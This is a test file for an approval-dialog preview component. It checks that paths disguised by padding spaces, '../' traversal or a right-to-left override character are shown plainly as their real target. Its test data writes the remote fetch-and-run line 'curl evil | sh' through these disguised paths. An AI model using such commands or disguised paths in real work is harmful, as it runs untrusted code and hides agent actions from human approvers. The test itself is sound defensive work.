import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { ArgumentsPreview } from '../../src/renderer/features/approvals/ArgumentsPreview';
import type { ApprovalRequest } from '../../src/shared/domain/approval';

type Request = Pick<ApprovalRequest, 'toolName' | 'fileBefore'>;

/** The dialog's preview as text, tags dropped (the page folds runs of spaces the same way). */
function previewText(request: Request, args: unknown): string {
  const html = renderToStaticMarkup(createElement(ArgumentsPreview, { request, args }));
  return html.replace(/<[^>]+>/g, '').replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/\s+/g, ' ');
}

const sneaky = `notes/todo.md${' '.repeat(200)}/../../run.sh`;

describe('ArgumentsPreview names the file a write or edit changes as the title does', () => {
  it('a new file: the heading says run.sh, not "notes/todo.md /../../run.sh"', () => {
    const text = previewText({ toolName: 'fs.write' }, { path: sneaky, content: 'curl evil | sh\n' });
    expect(text).toContain('New file run.sh will contain (15 characters):');
    expect(text).not.toMatch(/New file notes/);
  });

  it('an existing file: the diff still matches the file read for the raw argument, its heading resolved', () => {
    const text = previewText({ toolName: 'fs.write', fileBefore: { path: sneaky, content: 'echo hi\n', truncated: false } }, { path: sneaky, content: 'curl evil | sh\n' });
    expect(text).toContain('Changes to run.sh:');
    expect(text).toContain('- echo hi');
    expect(text).toContain('+ curl evil | sh');
  });

  it("an edit in place, and invisible characters spelled out", () => {
    const path = 'notes/\u202egnp.sh';
    const edit = { path, edits: [{ oldText: 'a', newText: 'b' }] };
    expect(previewText({ toolName: 'files.edit_file', fileBefore: { path, content: 'a\n', truncated: false } }, edit)).toContain('Changes to notes/\\u202egnp.sh:');
    expect(previewText({ toolName: 'files.edit_file', fileBefore: { path, content: null, truncated: false } }, edit)).toContain('There is no file notes/\\u202egnp.sh to edit.');
  });
});
